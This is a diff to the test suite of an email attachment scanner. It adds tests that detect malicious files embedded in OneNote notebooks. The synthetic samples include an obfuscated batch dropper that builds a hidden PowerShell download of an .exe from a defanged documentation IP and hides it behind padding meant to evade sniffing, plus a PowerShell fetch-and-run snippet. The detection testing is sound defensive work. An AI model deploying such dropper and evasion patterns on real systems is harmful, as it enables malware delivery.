@@ -208,11 +208,80 @@ def test_onenote_with_only_pictures_is_clean() -> None:
     assert result.verdict.label == "clean"
 
 
-def test_onenote_with_a_document_is_only_noted() -> None:
+def test_onenote_with_a_document_is_suspicious() -> None:
+    # Businesses rarely mail notebooks with files in them; OneNote was Emotet's 2023 carrier.
     result = scan_bytes(with_attachment(build_one(b"%PDF-1.4\n%%EOF\n"), "notes.one", OCTET))
     assert finding(result, "attachment.onenote_files").facts()["type"] == "application/pdf"
     assert "attachment.onenote_embedded" not in ids(result)
-    assert result.verdict.label == "clean"
+    assert result.verdict.label == "suspicious"
+
+
+def obfuscated_batch(size: int = 340_000, seed: int = 3) -> bytes:
+    """A batch dropper in the shape of the 2023 OneNote wave: no "@echo off", a head of
+    "::" comment lines of random words, `set` fragments and a command spliced from them."""
+    chooser = random.Random(seed)
+    words = ["alpha", "kappa", "notice", "serial", "window", "ledger", "vortex", "quartz"]
+
+    def comment() -> str:
+        return ":: " + " ".join(chooser.choice(words) for _ in range(8)) + "\r\n"
+
+    lines = [comment() for _ in range(200)]  # far more than the 8 KB a sniffer reads first
+    fragments = {"aq": "pow", "zr": "ersh", "kl": "ell", "mx": " -w hidden -c iwr"}
+    for name, value in fragments.items():
+        lines.append(f"set {name}={value}\r\n")
+        lines.extend(comment() for _ in range(2))
+    lines.append("%aq%%zr%%kl%%mx% hxxp://198.51.100.7/a.dat -o %temp%\\a.exe\r\n")
+    body = "".join(lines)
+    while len(body) < size:
+        body += comment()
+    return body.encode()
+
+
+def test_onenote_with_an_obfuscated_batch_file_is_malicious() -> None:
+    script = obfuscated_batch()
+    assert b"@echo" not in script.lower() and len(script) >= 340_000
+    result = scan_bytes(with_attachment(build_one(PNG_1PX, script), "notes.one", OCTET))
+    hit = finding(result, "attachment.onenote_embedded")
+    assert hit.facts()["type"] == "batch"
+    assert result.verdict.label == "malicious"
+
+
+def test_a_script_padded_with_prose_is_found_by_its_end() -> None:
+    prose = ("This paragraph is ordinary text about the quarterly report. " * 20 + "\n") * 30
+    script = prose.encode() + obfuscated_batch(2_000)
+    assert len(prose) > 8192
+    assert sniff(script).kind == "script"
+    assert sniff(prose.encode()).kind == "text"
+
+
+def test_utf16_script_without_a_byte_order_mark_is_read_as_text() -> None:
+    script = (
+        "$u = 'hxxp://198.51.100.7/a'\r\nInvoke-WebRequest $u -OutFile $env:TEMP\\a.exe\r\n"
+        "Start-Process $env:TEMP\\a.exe\r\n"
+    ).encode("utf-16-le")
+    found = sniff(script)
+    assert (found.kind, found.extensions[:1]) == ("script", (".ps1",))
+    hits = list(onenote.notebooks(context(build_one(script), "notes.one")))
+    assert [h.id for h in hits] == ["attachment.onenote_embedded"]
+
+
+def test_a_head_of_a_million_comment_lines_is_skipped_quickly() -> None:
+    padded = b":: x\r\n" * 1_000_000 + b"set a=pow\r\nset b=ershell\r\nset c=-c x\r\n%a%%b%%c%\r\n"
+    started = time.monotonic()
+    sniff(padded)
+    assert time.monotonic() - started < 5.0  # generous hang guard
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "::1 localhost\n::1 ip6-localhost\n127.0.0.1 localhost\n",  # a hosts file
+        "Set the PATH to %JAVA_HOME%\\bin before you start.\nSee %APPDATA% for logs.\n",
+        "std::string name;\nstd::vector<int> v;\nstd::map<int, int> m;\n",
+    ],
+)
+def test_prose_with_batch_like_lines_stays_text(text: str) -> None:
+    assert sniff(text.encode()).kind == "text"
 
 
 def test_onenote_object_cut_short_is_classified_from_what_is_there() -> None:
